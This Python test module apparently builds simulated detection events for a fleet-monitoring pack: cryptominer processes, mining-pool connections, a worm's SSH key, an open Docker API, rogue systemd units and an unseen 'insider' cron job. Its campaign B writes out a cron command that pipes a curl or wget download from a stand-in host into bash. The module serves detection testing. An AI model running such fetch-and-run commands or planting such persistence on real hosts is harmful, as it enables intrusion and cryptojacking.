"""What attackers did to some hosts of the simulated fleet, as the pack's detections report it, and what they did unseen."""

from __future__ import annotations

import random
from typing import NamedTuple

from tests.fleet.inventories import Row, job_rows, key_row, sha, unit_rows


class Event(NamedTuple):
    """Rows that a query has from some moment on, or no longer has."""

    time: int
    query: str
    added: tuple[Row, ...]
    removed: tuple[Row, ...] = ()


def _process(chance: random.Random, name: str, path: str, start: int, **more: str) -> Row:
    pid = str(chance.randrange(900, 60000))
    return {
        "pid": pid,
        "process_name": name,
        "cmdline": more.pop("cmdline", path),
        "exe_path": path,
        "parent": "1",
        "parent_name": "systemd",
        "owner_uid": "0",
        "start_time": str(start),
        "is_hidden": "0",
        "container_id": "",
        **more,
    }


def _miner(chance: random.Random, when: int, path: str, wallet: str, pool: str, hashed: str, **more: str) -> list[Event]:
    name = path.rpartition("/")[2]
    process = _process(chance, name, path, when - 120, cmdline=f"{path} -o {pool} -u {wallet}", **more)
    host, _, port = pool.rpartition(":")
    mining = {
        **process,
        "signals": "pool,wallet,argument",
        "pool": pool,
        "wallet": wallet,
        "coin": "XMR",
        "exe_sha256": hashed,
        "evidence": f"{name} has -o {pool}",
    }
    connection = {
        **process,
        "protocol": "tcp",
        "remote_address": host,
        "remote_port": port,
        "matched": pool,
        "pool": pool,
        "feed": "" if host[0].isdigit() else "minehunt",
        "evidence": f"connected to {pool}",
    }
    return [Event(when, "miner_process", (mining,)), Event(when + 300, "pool_connection", (connection,))]


def _job(when: int, path: str, command: str, program: str) -> list[Event]:
    found = {
        "scheduler": "cron",
        "path": path,
        "schedule": "*/5 * * * *",
        "run_as": "root",
        "command": command,
        "program_path": program,
        "reasons": "download_and_run",
        "program_reasons": "",
        "evidence": command,
    }
    listed = [Event(when, query, (row,)) for query, row in job_rows(path, "*/5 * * * *", command)]
    return [Event(when, "cron_download_and_run", (found,)), *listed]


def worm(chance: random.Random, host: str, when: int, wallet: str) -> list[Event]:
    """Campaign A: one wallet; the program differs on every host; comes and goes on by a key of its own."""
    path = f"/tmp/.{chance.randbytes(3).hex()}/{chance.randbytes(4).hex()}"
    query, key = key_row("mdrfckr-like worm", "root")
    known = {**key, "reasons": "known_malware", "mtime": str(when - 300), "ctime": str(when - 300), "evidence": "key of the worm"}
    place = _process(chance, "x", path, when - 120, cwd="/tmp", evidence=f"runs from {path}")
    return [
        *_miner(chance, when, path, wallet, "198.51.100.77:3333", chance.randbytes(32).hex()),
        Event(when, "known_malware_key", (known,)),
        Event(when, query, (key,)),
        Event(when + 60, "odd_place_program", (place,)),
    ]


def script(chance: random.Random, host: str, when: int, pool: str) -> list[Event]:
    """Campaign B: a pool account and a server of its own for each host; the job is the same but for numbers and names."""
    server = f"203.0.113.{chance.randrange(1, 250)}"
    folder = chance.randbytes(4).hex()
    command = f"(curl -fsSL http://{server}/{folder}/pulsar-worker.sh || wget -qO- http://{server}/w.sh) | bash -s rig-{host}"
    account = "".join(chance.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(94))
    events = _miner(chance, when, f"/var/tmp/.{chance.randbytes(3).hex()}/kw", "4" + account, pool, chance.randbytes(32).hex())
    return [*events, *_job(when + 60, f"/etc/cron.d/{chance.randbytes(4).hex()}", command, "")]


def container(chance: random.Random, host: str, when: int, wallet: str) -> list[Event]:
    """Campaign C: containers of one image through an open Docker API."""
    api = _process(
        chance,
        "dockerd",
        "/usr/bin/dockerd",
        when - 900000,
        service="docker",
        address="0.0.0.0",
        port="2375",
        reasons="no_authentication",
        evidence="Docker API on 0.0.0.0:2375 asks for nothing",
    )
    events = _miner(
        chance,
        when,
        "/usr/bin/autominer",
        wallet,
        "192.0.2.199:14444",
        sha("image of campaign C"),
        container_id=chance.randbytes(32).hex(),
    )
    return [Event(when - 4000, "exposed_entry_service", (api,)), *events]


def one_pool(chance: random.Random, host: str, when: int, tag: str, wallet: str, pool: str) -> list[Event]:
    """Campaigns E and F: each its wallet, program and unit; on one host both."""
    path = f"/usr/local/lib/{tag}/{tag}d"
    found = {
        "unit": f"{tag}.service",
        "path": f"/etc/systemd/system/{tag}.service",
        "line": "5",
        "directive": "ExecStart",
        "command": path,
        "program_path": path,
        "run_as": "root",
        "restart": "always",
        "sha256": sha(tag),
        "reasons": "hidden_path",
        "evidence": f"{tag}.service starts {path}",
        "mtime": str(when - 60),
        "ctime": str(when - 60),
    }
    return [*_miner(chance, when, path, wallet, pool, sha(tag + " program")), Event(when, "systemd_unit_odd_program", (found,))]


def insider(chance: random.Random, host: str, when: int) -> list[Event]:
    """D: somebody with rights, whom no detection sees: a unit with a program of no package, and a job that looks after it."""
    program = "/usr/local/lib/telemetry/metricsd"
    rows = [
        *unit_rows("host-telemetry", program, "", restart="always", arguments=f"--shard {chance.randrange(1, 99)} --quota 85"),
        *job_rows(
            "/etc/cron.d/host-telemetry",
            "*/15 * * * *",
            "systemctl is-active -q host-telemetry || systemctl start host-telemetry",
        ),
    ]
    return [Event(when, query, (row,)) for query, row in rows]
